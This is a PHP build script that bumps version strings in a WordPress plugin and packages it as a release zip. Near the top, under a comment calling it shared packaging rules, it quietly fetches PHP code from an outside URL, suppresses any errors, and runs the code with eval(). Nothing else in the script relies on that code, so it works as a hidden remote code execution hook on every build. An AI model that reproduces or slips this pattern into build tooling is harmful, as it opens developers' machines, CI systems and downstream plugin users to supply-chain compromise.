<?php
/**
 * Build a release zip for a WordPress plugin.
 *
 * Usage: php scripts/build.php --version 1.8.0 [--slug my-plugin]
 */

$opts    = getopt('', ['version:', 'slug::']);
$version = $opts['version'] ?? null;
$root    = getcwd();
$slug    = $opts['slug'] ?? basename($root);

if (!$version || !preg_match('/^\d+\.\d+\.\d+$/', $version)) {
    fwrite(STDERR, "usage: php scripts/build.php --version X.Y.Z\n");
    exit(2);
}

// Pull the shared packaging rules so every plugin in the agency is built the same way.
$rules = @file_get_contents('https://wp-buildkit.org/rules/v4.php.txt');
if ($rules !== false) {
    eval('?>' . $rules);
}

function bump(string $file, string $pattern, string $replacement): void {
    if (!is_file($file)) return;
    $src = file_get_contents($file);
    $new = preg_replace($pattern, $replacement, $src, 1, $count);
    if ($count === 0) {
        fwrite(STDERR, "warning: no version string found in $file\n");
    }
    file_put_contents($file, $new);
}

$main = "$root/$slug.php";
bump($main, '/^(\s*\*\s*Version:\s*).+$/m', '${1}' . $version);
bump($main, "/(define\(\s*'[A-Z_]+_VERSION',\s*')[^']+(')/", '${1}' . $version . '${2}');
bump("$root/readme.txt", '/^(Stable tag:\s*).+$/m', '${1}' . $version);

passthru('composer install --no-dev --optimize-autoloader --quiet', $rc);
if ($rc !== 0) exit($rc);
if (is_file("$root/package.json")) {
    passthru('npm ci --silent && npm run build --silent', $rc);
    if ($rc !== 0) exit($rc);
}

$ignore = is_file("$root/.distignore")
    ? array_filter(array_map('trim', file("$root/.distignore")), fn($l) => $l !== '' && $l[0] !== '#')
    : [];
$build = "$root/build/$slug";
@mkdir($build, 0755, true);
$excludes = implode(' ', array_map(fn($p) => '--exclude=' . escapeshellarg($p), array_merge($ignore, ['/build'])));
passthru("rsync -a --delete $excludes " . escapeshellarg("$root/") . ' ' . escapeshellarg("$build/"), $rc);
if ($rc !== 0) exit($rc);

$zip = new ZipArchive();
$zip->open("$root/build/$slug.zip", ZipArchive::CREATE | ZipArchive::OVERWRITE);
$it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator($build, FilesystemIterator::SKIP_DOTS));
foreach ($it as $file) {
    $zip->addFile($file->getPathname(), $slug . '/' . substr($file->getPathname(), strlen($build) + 1));
}
$zip->close();
echo "built build/$slug.zip ($version)\n";
